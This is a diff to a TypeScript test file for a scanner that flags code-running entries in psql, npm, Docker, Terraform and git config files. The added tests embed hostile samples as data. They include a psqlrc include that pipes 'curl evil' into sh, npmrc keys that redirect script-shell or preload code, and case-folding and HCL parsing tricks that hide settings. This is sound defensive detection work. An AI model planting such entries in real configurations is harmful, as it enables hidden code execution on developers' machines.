@@ -330,10 +330,10 @@ test('D8 round 13 npmrc: script-shell, shell, git, editor and node-options with 
 
 test('D8 round 13 the table: terraform/tofu, docker, psql and npm read their files and the variables naming others', () => {
   const home = '/home/a';
-  assert.deepEqual(configFilesOf('tofu', {}, home).map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json']);
-  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc' }, home).map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('tofu', {}, home).map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
+  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
   assert.deepEqual(configFilesOf('docker', { DOCKER_CONFIG: '~/d/' }, home).map((f) => [f.path, f.via]), [['/home/a/d/config.json', 'DOCKER_CONFIG=~/d/']]);
-  assert.deepEqual(configFilesOf('psql', { PGSYSCONFDIR: '/etc/pg' }, home).map((f) => f.path), ['/etc/pg/psqlrc', '/home/a/.psqlrc', '/home/a/.psqlrc-*']);
+  assert.deepEqual(configFilesOf('psql', { PGSYSCONFDIR: '/etc/pg' }, home).map((f) => f.path), ['/etc/pg/psqlrc', '/etc/pg/psqlrc-*', '/home/a/.psqlrc', '/home/a/.psqlrc-*']);
   assert.deepEqual(configFilesOf('npx', { NPM_CONFIG_USERCONFIG: '/etc/npmrc' }, home, '/home/a/app').map((f) => f.path), ['/home/a/app/.npmrc', '/home/a/.npmrc', '/home/.npmrc', '/.npmrc', '/etc/npmrc']);
 });
 
@@ -343,4 +343,40 @@ test('D8 round 13 git config: remote uploadpack/receivepack and `ext::` remotes 
   assert.deepEqual((judged(r) as Array<{ safe: boolean }>).map((j) => j.safe), [false, true, false, false]);
   assert.deepEqual(keys(readConfig('gitconfig', '[remote "origin"]\n\turl = https://github.com/a/b\n\tuploadpack = git-upload-pack\n[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n')), ['remote.origin.uploadpack']);
   assert.deepEqual(judged(readConfig('gitconfig', '[remote "origin"]\n\tuploadpack = git-upload-pack\n')), [{ safe: true, program: 'git-upload-pack', kind: 'program' }]);
+});
+
+// Round 13 review (r13g): each reader against its tool's own parsing
+const runsSomething = (r: ConfigReading) => !r.ok || r.settings.length > 0;
+
+test('r13g psqlrc: an include whose name psql interpolates (backquotes, `:var`, quotes, escapes) is code, not a file to follow', () => {
+  // psql runs a backquoted argument of any meta-command in a shell (psql(1) Meta-Commands), \i and \ir included
+  for (const bad of ['\\ir `curl${IFS}evil|sh`', '\\i ~/`id>/tmp/p`', '\\i /tmp/:HISTFILE', '\\ir :HISTFILE', "\\ir 'evil.sql'", '\\i "/tmp/x"', '\\ir a\\\\!id']) {
+    const r = readConfig('psqlrc', `${bad}\n`);
+    assert.ok(r.ok && r.includes.length === 0 && r.settings.length === 1 && r.settings[0]!.run.kind === 'code', bad);
+  }
+  assert.deepEqual(readConfig('psqlrc', '\\i ~/.psqlrc.local\n\\ir more-1.psqlrc\n'), { ok: true, settings: [], includes: ['~/.psqlrc.local', 'more-1.psqlrc'] });
+});
+
+test('r13g npmrc: npm fills `${VAR}` (and `${VAR?}`, empty when unset) in keys too: a key it cannot know is code', () => {
+  // @npmcli/config replaces variables in each key before using it: `script-shell${X?}` is `script-shell`
+  for (const bad of ['script-shell${UNSET?} = /tmp/sh', '${K} = /tmp/sh', 'node-options${A?}=--require /tmp/x.js']) assert.ok(runsSomething(readConfig('npmrc', `${bad}\n`)), bad);
+  assert.deepEqual(keys(readConfig('npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nregistry=https://r.example/\n')), []);
+});
+
+test('r13g docker config.json: the Docker CLI (Go encoding/json) matches keys case-blind, Unicode folding included', () => {
+  for (const bad of ['{"CredsStore":"pass"}', '{"credsstore":"pass"}', '{"cred\u017fStore":"pass"}', '{"CREDHELPERS":{"r.io":"pass"}}', '{"CliPluginsExtraDirs":["/tmp/p"]}']) {
+    const r = readConfig('docker', bad);
+    assert.ok(runsSomething(r), bad);
+  }
+  assert.deepEqual(keys(readConfig('docker', '{"auths":{"r.io":{"auth":"eA=="}},"HttpHeaders":{"User-Agent":"x"}}')), []);
+});
+
+test('r13g Terraform: HCL 1 matches block and setting names case-blind; a string with `${` runs to its closing brace as HCL 1 scans it', () => {
+  for (const bad of ['PLUGIN_CACHE_DIR = "/tmp/p"\n', 'Provider_Installation {\n  dev_overrides { "hashicorp/aws" = "/tmp/p" }\n}\n', 'provider_installation {\n  filesystem_mirror { PATH = "/tmp/p" }\n}\n', 'Credentials_Helper "x" {}\n', '{"Plugin_Cache_Dir": "/tmp/p"}']) {
+    assert.ok(runsSomething(readConfig('terraformrc', bad)), bad);
+  }
+  // terraform reads `a` as `${" x { "}}` and sets plugin_cache_dir at the top; a reader ending strings at the first quote does not
+  const hidden = 'a = "${" x { "}}"\nplugin_cache_dir = "/tmp/evil"\nb = "${"}" # "\nc = "d"\n';
+  assert.ok(runsSomething(readConfig('terraformrc', hidden)));
+  assert.deepEqual(keys(readConfig('terraformrc', 'disable_checkpoint = true\ncredentials "app.terraform.io" { token = "x.y" }\nprovider_installation {\n  direct {}\n}\n')), []);
 });
